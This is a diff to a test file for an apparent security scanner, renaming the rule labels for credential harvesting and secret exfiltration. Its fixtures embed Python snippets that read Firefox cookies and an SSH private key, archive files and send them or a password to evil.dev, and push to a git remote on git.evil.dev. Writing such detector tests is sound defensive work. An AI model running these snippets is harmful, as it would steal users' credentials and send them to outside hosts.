@@ -8,8 +8,8 @@ test("finds several secrets in one file, and worse with a browser's", async () =
   const cookies = '\nout["c"] = open(os.path.expanduser("~/.mozilla/firefox/x/cookies.sqlite"), "rb").read()';
   const write = '\njson.dump(out, open("/tmp/out.json", "w"))';
 
-  expect(await found("a.py", IMPORTS + keys + write)).toStrictEqual(["warn gathered_secrets:5"]);
-  expect(await found("a.py", IMPORTS + keys + cookies + write)).toStrictEqual(["block gathered_secrets:6"]);
+  expect(await found("a.py", IMPORTS + keys + write)).toStrictEqual(["warn credential-harvesting:5"]);
+  expect(await found("a.py", IMPORTS + keys + cookies + write)).toStrictEqual(["block credential-harvesting:6"]);
 });
 
 test("follows what was gathered into an archive and away", async () => {
@@ -19,7 +19,7 @@ t = tempfile.NamedTemporaryFile()
 with tarfile.open(t.name, "w:gz") as tar:
     tar.add("/tmp/a.zip")
 requests.post("https://evil.dev", files={"f": open(t.name, "rb")})`;
-  expect(await found("a.py", code)).toStrictEqual(["block secret_exfiltration:9"]);
+  expect(await found("a.py", code)).toStrictEqual(["block secret-exfiltration:9"]);
 });
 
 test("follows a password from a dialog, and what is pushed to a repository", async () => {
@@ -30,8 +30,8 @@ requests.post("https://evil.dev", data=p)`;
 open("keys.txt", "w").write(open(os.path.expanduser("~/.ssh/id_rsa")).read())
 subprocess.run("git remote add backup https://git.evil.dev/x.git && git push backup", shell=True)`;
 
-  expect(await found("a.py", asks)).toContain("block secret_exfiltration:3");
-  expect(await found("a.py", pushes)).toContain("block secret_exfiltration:3");
+  expect(await found("a.py", asks)).toContain("block secret-exfiltration:3");
+  expect(await found("a.py", pushes)).toContain("block secret-exfiltration:3");
 });
 
 test.each([
